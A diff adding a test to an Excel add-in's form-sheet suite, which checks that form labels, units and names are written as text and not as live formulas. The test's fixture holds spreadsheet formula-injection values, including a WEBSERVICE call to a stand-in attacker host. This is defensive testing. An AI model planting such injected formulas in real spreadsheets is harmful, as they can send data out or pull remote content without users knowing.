@@ -92,6 +92,29 @@ describe('inserting the form sheet', () => {
   })
 })
 
+describe('texts of a loaded form version', () => {
+  it('are written as text, never as formulas: labels, TT, units, names and notes', async () => {
+    const hostile: FormDefinition = {
+      ...b01,
+      rows: b01.rows.map((row, i) =>
+        i === 0
+          ? { ...row, tt: '=1+1', label: '=WEBSERVICE("http://evil.example")', unit: '@x' }
+          : row,
+      ),
+    }
+    excel = installMockExcel()
+    await insertFormSheet(hostile, { ...options, unitName: '+CĐCS Giả' }, hostFeatures())
+    const hostileLayout = formSheetLayout(hostile, { ...options, unitName: '+CĐCS Giả' })
+    const derived = new Set(hostileLayout.rows.map((row) => row.formula).filter(Boolean))
+    const live = [...excel.sheet('B01').formulas.values()]
+    expect(live.length).toBeGreaterThan(0)
+    expect(live.filter((formula) => !derived.has(formula))).toEqual([])
+    const grid = excel.sheet('B01').grid.flat()
+    expect(grid).toContain('=WEBSERVICE("http://evil.example")')
+    expect(grid).toContain('@x')
+  })
+})
+
 describe('checking the form sheet', () => {
   it('marks a part larger than its parent and a text in a count, in Vietnamese, in 3 syncs', async () => {
     type(excel, 'workers.total', 100)
